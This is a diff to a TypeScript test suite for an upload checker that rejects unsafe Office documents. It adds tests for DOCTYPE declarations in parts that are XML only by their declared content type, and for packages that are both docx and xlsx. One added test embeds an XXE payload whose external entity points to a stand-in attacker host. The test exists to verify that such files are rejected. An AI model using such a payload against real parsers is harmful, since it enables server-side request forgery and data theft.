@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { checkFile } from '../../src/security/file-checks/check-file.js';
 import { inspectOoxml } from '../../src/security/file-checks/ooxml.js';
 import { FILE_LIMITS, FileRejected, type RejectionReason } from '../../src/security/file-checks/rejection.js';
-import { contentTypes, declareSize, DOCX_MAIN, docxParts, rels, wordDocument, xlsxParts, zip } from '../helpers/files.js';
+import { contentTypes, declareSize, DOCX_MAIN, docxParts, rels, wordDocument, XLSX_MAIN, xlsxParts, zip } from '../helpers/files.js';
 
 function reason(bytes: Uint8Array): RejectionReason | 'accepted' {
   try {
@@ -94,6 +94,12 @@ describe('DTDs and entities', () => {
     const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE a><a/>', 'utf16le')]);
     expect(reason(zip({ ...docxParts(), 'docProps/app.xml': utf16 }))).toBe('xml_declarations');
   });
+
+  it('refuses <!DOCTYPE in a part that is XML only by its declared content type', () => {
+    const parts = { ...docxParts(), '[Content_Types].xml': contentTypes({ '/word/document.xml': DOCX_MAIN, '/word/extra.dat': 'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml' }), 'word/extra.dat': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/">]><x>&e;</x>' };
+    expect(reason(zip(parts))).toBe('xml_declarations');
+    expect(reason(zip({ ...parts, 'word/extra.dat': '<x/>' }))).toBe('accepted');
+  });
 });
 
 describe('embedded objects and ActiveX', () => {
@@ -140,6 +146,11 @@ describe('zip bombs and malformed packages', () => {
     const { 'word/document.xml': _dropped, ...rest } = docxParts();
     expect(reason(zip(rest))).toBe('not_allowed');
     expect(reason(zip({ ...docxParts(), 'word/document.xml': '<w:document><w:body></w:document>' }))).toBe('malformed');
+  });
+
+  it('refuses a package that is both a docx and an xlsx', () => {
+    const both = { ...xlsxParts(), ...docxParts(), '[Content_Types].xml': contentTypes({ '/word/document.xml': DOCX_MAIN, '/xl/workbook.xml': XLSX_MAIN }) };
+    expect(reason(zip(both))).toBe('malformed');
   });
 
   it('refuses a plain zip and a presentation', () => {
